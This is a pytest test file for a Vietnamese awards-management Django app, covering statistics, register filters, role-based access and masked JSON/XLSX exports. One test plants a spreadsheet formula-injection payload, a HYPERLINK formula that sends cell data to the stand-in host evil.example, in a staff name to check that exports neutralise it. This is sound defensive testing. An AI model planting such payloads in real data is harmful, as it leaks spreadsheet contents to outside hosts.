"""Statistics, the awards register, histories and the exchange export on a small hand-built
office (conftest's VP: HC = P01, P02, P06, P09; QH = P03, P04; ND = P05, P07, P08, plus P10
recruited into ND on 01/06/2025). Every expected figure below is counted by hand."""

import datetime as dt
import io
import json
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from conftest import make_person, make_user
from thidua.accounts.models import Role
from thidua.decisions.models import Award
from thidua.org.models import Person
from thidua.reports.selectors import age_band, stats_demographics, stats_divisions, stats_years

ISSUER = "Chánh Văn phòng"
# staff code → (gender, date of birth)
PROFILE = {
    "P01": ("male", dt.date(1970, 5, 1)),  # 55 on 31/12/2025
    "P02": ("female", dt.date(1996, 1, 1)),  # 29
    "P03": ("male", dt.date(1985, 12, 31)),  # 40 exactly on 31/12/2025
    "P04": ("male", dt.date(1995, 12, 31)),  # 30 exactly
    "P05": ("female", dt.date(1976, 1, 1)),  # 49
    "P06": ("male", dt.date(1975, 12, 31)),  # 50 exactly
    "P07": ("female", None),
    "P08": ("female", dt.date(1990, 6, 15)),  # 35
    "P09": ("male", dt.date(2000, 1, 1)),  # 25
    "P10": ("", dt.date(1999, 3, 3)),  # 26
}


def award(subject, year, title, number="05/QĐ-VP", on=None, **extra):
    field = "person" if isinstance(subject, Person) else "unit"
    return Award.objects.create(
        **{field: subject},
        year=year,
        title_code=title,
        decision_code=number,
        decided_on=on or dt.date(year + 1, 1, 15),
        issuer_name=ISSUER,
        **extra,
    )


@pytest.fixture
def dataset(office, people, users):
    make_person(
        "P10", "Đỗ Minh Quân", office["ND"], recruited_on=dt.date(2025, 6, 1), citizen_id=""
    )
    for code, (gender, born) in PROFILE.items():
        Person.objects.filter(staff_code=code).update(gender=gender, date_of_birth=born)
    Person.objects.filter(staff_code="P03").update(citizen_id="087085001234")
    p = {x.staff_code: x for x in Person.objects.all()}
    for code in ("P01", "P02", "P03", "P04", "P05"):
        award(p[code], 2025, "LDTT")
    award(p["P03"], 2025, "CSTDCS")
    award(office["QH"], 2025, "TTLDTT")
    award(office["QH"], 2025, "TTLDXS", number="12/QĐ-UBND", on=dt.date(2026, 3, 2))
    award(office["ND"], 2025, "TTLDTT")
    award(p["P03"], 2024, "LDTT", number="04/QĐ-VP")
    award(p["P04"], 2024, "LDTT", number="04/QĐ-VP")
    # Revoked, and another agency's: never counted.
    award(p["P05"], 2024, "LDTT", number="04/QĐ-VP", revoked_at=timezone.now())
    award(p["X01"], 2025, "LDTT", number="09/QĐ-SNV")
    return office


D = Decimal


def test_year_over_year(dataset):
    shares, titles = stats_years(dataset["VP"])
    assert shares.rows == [
        [2024, 9, 2, D("22.2"), 0, D("0.0"), 3, 0, D("0.0"), 0, D("0.0")],
        [2025, 10, 5, D("50.0"), 1, D("10.0"), 3, 2, D("66.7"), 1, D("33.3")],
    ]
    assert titles.columns == ["Năm", "LĐTT", "CSTĐCS", "TTLĐTT", "TTLĐXS"]
    assert titles.rows == [[2024, 2, 0, 0, 0], [2025, 5, 1, 2, 1]]


def test_year_over_year_of_one_division(dataset):
    shares, _titles = stats_years(dataset["VP"], dataset["QH"])
    assert shares.rows[-1] == [
        2025,
        2,
        2,
        D("100.0"),
        1,
        D("50.0"),
        1,
        1,
        D("100.0"),
        1,
        D("100.0"),
    ]


def test_by_division(dataset):
    (table,) = stats_divisions(dataset["VP"], 2025)
    assert [row[:7] for row in table.rows] == [
        ["Phòng Hành chính, Tổ chức, Quản trị", 4, 2, D("50.0"), 0, D("0.0"), 0],
        ["Phòng Công tác Quốc hội", 2, 2, D("100.0"), 1, D("50.0"), 0],
        ["Phòng Công tác HĐND", 4, 1, D("25.0"), 0, D("0.0"), 0],
    ]
    assert [row[7] for row in table.rows] == ["", "TTLĐTT, TTLĐXS", "TTLĐTT"]


def test_by_gender_and_age_band(dataset):
    gender, age = stats_demographics(dataset["VP"], 2025)
    assert gender.rows == [
        ["Nam", 5, 3, D("60.0"), 1, D("20.0")],
        ["Nữ", 4, 2, D("50.0"), 0, D("0.0")],
        ["Chưa rõ", 1, 0, D("0.0"), 0, D("0.0")],
    ]
    assert age.rows == [
        ["Dưới 30 tuổi", 3, 1, D("33.3"), 0, D("0.0")],
        ["Từ 30 đến 39 tuổi", 2, 1, D("50.0"), 0, D("0.0")],
        ["Từ 40 đến 49 tuổi", 2, 2, D("100.0"), 1, D("50.0")],
        ["Từ 50 tuổi trở lên", 2, 1, D("50.0"), 0, D("0.0")],
        ["Chưa có ngày sinh", 1, 0, D("0.0"), 0, D("0.0")],
    ]


@pytest.mark.parametrize(
    ("born", "band"),
    [
        (dt.date(1996, 1, 1), "Dưới 30 tuổi"),
        (dt.date(1995, 12, 31), "Từ 30 đến 39 tuổi"),  # 30th birthday on 31 December
        (dt.date(1986, 1, 1), "Từ 30 đến 39 tuổi"),  # 39
        (dt.date(1985, 12, 31), "Từ 40 đến 49 tuổi"),
        (dt.date(1976, 1, 1), "Từ 40 đến 49 tuổi"),
        (dt.date(1975, 12, 31), "Từ 50 tuổi trở lên"),
        (None, "Chưa có ngày sinh"),
    ],
    ids=["29", "30-on-31-dec", "39", "40-on-31-dec", "49", "50-on-31-dec", "no-birth-date"],
)
def test_age_band_edges(born, band):
    assert age_band(born, 2025) == band


def sheet_rows(content: bytes, index=0) -> list[tuple]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return list(workbook.worksheets[index].iter_rows(values_only=True))


def test_statistics_pages_charts_and_xlsx(dataset, client_for):
    client = client_for("secretariat")
    page = client.get(reverse("reports:stats", kwargs={"kind": "nam"})).content.decode()
    assert "<svg" in page and "Tỷ lệ đạt danh hiệu theo năm" in page
    rows = sheet_rows(client.get(reverse("reports:stats_xlsx", kwargs={"kind": "nam"})).content)
    assert rows[0][:4] == ("Năm", "Số cán bộ", "LĐTT", "Tỷ lệ LĐTT (%)")
    assert rows[2][:6] == (2025, 10, 5, 50.0, 1, 10.0)
    response = client.get(
        reverse("reports:stats_xlsx", kwargs={"kind": "nhan-khau"}) + "?year=2025"
    )
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    assert [ws.title for ws in workbook.worksheets] == [
        "Theo giới tính",
        "Theo độ tuổi",
    ]
    assert list(workbook.worksheets[0].iter_rows(values_only=True))[1] == (
        "Nam",
        5,
        3,
        60.0,
        1,
        20.0,
    )


def test_division_head_sees_only_the_division(dataset, client_for):
    client = client_for("division_head")
    rows = sheet_rows(client.get(reverse("reports:stats_xlsx", kwargs={"kind": "phong"})).content)
    assert [r[0] for r in rows[1:]] == ["Phòng Công tác Quốc hội"]
    assert (
        client.get(reverse("reports:stats", kwargs={"kind": "nam"}) + "?agency=VP").status_code
        == 403
    )


def test_province_board_reads_every_agency_of_its_province(dataset, client_for, people):
    board = make_user("tinh", None, [(Role.PROVINCE_BOARD, dataset["DT"])])
    client = client_for(None)
    client.force_login(board)
    snv = client.get(reverse("reports:stats_xlsx", kwargs={"kind": "nam"}) + "?agency=SNV")
    assert sheet_rows(snv.content)[1][:3] == (2025, 1, 1)
    vp = client.get(reverse("reports:stats", kwargs={"kind": "phong"}) + "?agency=VP&year=2025")
    assert vp.status_code == 200 and "Phòng Công tác Quốc hội" in vp.content.decode()
    assert client.get(reverse("reports:register")).status_code == 403
    assert (
        client.get(reverse("reports:person_history", kwargs={"staff_code": "P03"})).status_code
        == 403
    )


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", 11),  # 9 in 2025, 2 in 2024 (the revoked and SNV's excluded)
        ("?year=2025", 9),
        ("?year=2025&title=LDTT", 5),
        ("?division=QH", 7),  # P03 ×3, P04 ×2 and the division's own two
        ("?decision=UBND", 1),
        ("?year=2024&decision=04", 2),
    ],
    ids=["all", "year", "year-title", "division", "decision-number", "year-decision"],
)
def test_register_filters_and_xlsx(dataset, client_for, query, expected):
    client = client_for("head")
    page = client.get(reverse("reports:register") + query)
    assert page.status_code == 200
    rows = sheet_rows(client.get(reverse("reports:register_xlsx") + query).content)
    assert len(rows) - 1 == expected
    assert rows[0][5] == "Số quyết định"


def test_histories(dataset, client_for):
    page = client_for("staff").get(reverse("reports:person_history", kwargs={"staff_code": "P04"}))
    text = page.content.decode()
    assert "Lao động tiên tiến" in text and "04/QĐ-VP" in text and "reports/print.css" in text
    assert (
        client_for("staff")
        .get(reverse("reports:person_history", kwargs={"staff_code": "P03"}))
        .status_code
        == 403
    )
    unit = client_for("division_head").get(reverse("reports:unit_history", kwargs={"code": "QH"}))
    text = unit.content.decode()
    assert "Tập thể lao động xuất sắc" in text and "12/QĐ-UBND" in text
    assert "Chiến sĩ thi đua cơ sở" in text  # P03's, while in the division
    assert (
        client_for("division_head")
        .get(reverse("reports:unit_history", kwargs={"code": "ND"}))
        .status_code
        == 403
    )


def test_exchange_export_json_and_xlsx(dataset, client_for, tmp_path):
    response = client_for("secretariat").get(
        reverse("reports:exchange", kwargs={"year": 2025, "fmt": "json"})
    )
    data = json.loads(response.content)
    assert data["format"] == "thidua.awards/1"
    assert data["agency"] == {"code": "VP", "name": "Văn phòng Đoàn ĐBQH và HĐND"}
    assert len(data["awards"]) == 9
    assert {(d["number"], d["award_count"]) for d in data["decisions"]} == {
        ("05/QĐ-VP", 8),
        ("12/QĐ-UBND", 1),
    }
    cstdcs = next(a for a in data["awards"] if a["title"]["code"] == "CSTDCS")
    assert cstdcs["title"] == {
        "code": "CSTDCS",
        "name": "Chiến sĩ thi đua cơ sở",
        "kind": "danh_hieu",
    }
    assert cstdcs["decision"] == {"number": "05/QĐ-VP", "date": "2026-01-15", "issuer": ISSUER}
    assert cstdcs["subject"] == {
        "type": "person",
        "staff_code": "P03",
        "full_name": "Võ Thanh Tùng",
        "date_of_birth": "1985-12-31",
        "citizen_id_masked": "*********234",
        "division": "Phòng Công tác Quốc hội",
    }
    assert "087085001234" not in response.content.decode()
    unit = next(a for a in data["awards"] if a["title"]["code"] == "TTLDXS")
    assert unit["subject"] == {"type": "unit", "code": "QH", "name": "Phòng Công tác Quốc hội"}
    output = tmp_path / "kt.xlsx"
    call_command(
        "export_awards",
        "--year",
        "2025",
        "--agency",
        "VP",
        "--format",
        "xlsx",
        "--output",
        str(output),
        stderr=io.StringIO(),
    )
    rows = sheet_rows(output.read_bytes())
    assert len(rows) == 10
    p03 = next(r for r in rows if r[1] == "CSTDCS")
    assert p03[4:12] == (
        "05/QĐ-VP",
        dt.datetime(2026, 1, 15),  # a date cell (dd/mm/yyyy), not text
        ISSUER,
        "cá nhân",
        "P03",
        "Võ Thanh Tùng",
        dt.datetime(1985, 12, 31),
        "*********234",
    )
    out = io.StringIO()
    call_command(
        "export_awards",
        "--year",
        "2025",
        "--agency",
        "VP",
        "--output",
        "-",
        stdout=out,
        stderr=io.StringIO(),
    )
    assert json.loads(out.getvalue())["awards"] == data["awards"]
    with pytest.raises(SystemExit):
        call_command(
            "export_awards",
            "--year",
            "2025",
            "--format",
            "csv",
            "--output",
            "-",
            stderr=io.StringIO(),
        )


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _hostile_cells(content: bytes) -> list:
    """Every cell holding the hostile name, in every sheet of the workbook."""
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value == HOSTILE_NAME
    ]


def test_a_formula_in_a_staff_name_is_plain_text_in_every_export(dataset, client_for):
    """Issue 18, item 9: the register and the exchange file write the name as a string cell."""
    import zipfile

    Person.objects.filter(staff_code="P03").update(full_name=HOSTILE_NAME)
    client = client_for("secretariat")
    exports = {
        "register": client.get(reverse("reports:register_xlsx")).content,
        "exchange": client.get(
            reverse("reports:exchange", kwargs={"year": 2025, "fmt": "xlsx"})
        ).content,
    }
    for name, content in exports.items():
        cells = _hostile_cells(content)
        assert cells, name
        assert all(c.data_type == "s" and c.quotePrefix for c in cells), name
        archive = zipfile.ZipFile(io.BytesIO(content))
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(member).decode(), (name, member)


def test_register_xlsx_dates_are_dates_and_header_is_set_up(dataset, client_for):
    content = client_for("head").get(reverse("reports:register_xlsx")).content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    assert sheet["G2"].is_date and sheet["G2"].number_format == "dd/mm/yyyy"
    assert sheet["A2"].number_format == "0"  # the year, without a thousands separator
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:H")
    assert sheet.print_title_rows == "$1:$1" and sheet.page_setup.orientation == "landscape"
    assert sheet.column_dimensions["B"].number_format == "@"  # "Mã": codes stay text
